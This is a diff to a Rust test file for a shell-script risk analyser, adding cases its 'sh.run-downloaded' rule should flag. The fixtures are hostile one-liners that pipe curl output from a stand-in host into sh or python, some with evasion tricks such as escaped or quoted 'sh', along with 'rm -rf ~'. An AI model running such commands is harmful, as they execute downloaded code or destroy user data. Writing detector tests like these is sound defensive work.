@@ -388,6 +388,7 @@ fn a_redirection_is_for_the_command_that_the_shell_gives_it_to() {
         ("sh 0< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
         ("python3 0< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
         ("sh 3< <(curl -s http://e.example/a) <&3\n", "sh.run-downloaded"),
+        ("sh -s $(true)3< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
         ("true && sh < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
         ("! sh < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
         ("f() { sh; } < <(curl -s http://e.example/a); f\n", "sh.run-downloaded"),
@@ -506,6 +507,10 @@ fn a_function_gets_the_input_of_its_call() {
         "f() { cat | sh; }; curl -s http://e.example/a | f\n",
         "f() { sh; }; curl -s http://e.example/a | { true; f; }\n",
         "f() { python3 -; }; while true; do f; done < <(curl -s http://e.example/a)\n",
+        "f() { s\\h; }; curl -s http://e.example/a | f\n",
+        "f() { 's'h; }; curl -s http://e.example/a | f\n",
+        "f() { sudo -s; }; curl -s http://e.example/a | f\n",
+        "f() { ssh h; }; curl -s http://e.example/a | f\n",
     ] {
         assert!(finds(text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", text)));
     }
@@ -515,6 +520,36 @@ fn a_function_gets_the_input_of_its_call() {
     // What no function reads is told once.
     let once = look("bash", "f() { rm -rf ~; }; yes | f\n");
     assert_eq!(once.findings.iter().filter(|finding| finding.rule == "sh.delete-tree").count(), 1);
+}
+
+#[test]
+fn what_is_written_to_a_command_is_its_input() {
+    for text in ["curl -s http://e.example/a | tee >(sh) > a\n", "curl -s http://e.example/a > >(sh)\n"] {
+        assert!(finds(text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", text)));
+    }
+    for text in [
+        "echo 'rm -rf ~' | tee >(sh)",
+        "echo 'rm -rf ~' > >(sh)",
+        "{ cat a; } > >(sh)",
+        "> >(sh) cat a",
+        "exec > >(sh); cat a",
+        // Each command behind it reads that.
+        "exec < <(cat a); sh",
+        "exec < a; sh",
+    ] {
+        assert!(look("bash", text).effects.unknown, "{text}");
+    }
+    let files = look("bash", "ls > >(tee a) 2> >(grep b >&2)");
+    assert!(!files.effects.unknown && files.effects.writes == ["a"], "{files:?}");
+}
+
+#[test]
+fn only_the_number_0_names_the_standard_input() {
+    for (language, source) in
+        [("python", "open('0').read()"), ("javascript", "require('fs').readFileSync('0')")]
+    {
+        assert_eq!(look(language, source).effects.reads, ["0"], "{source}");
+    }
 }
 
 #[test]
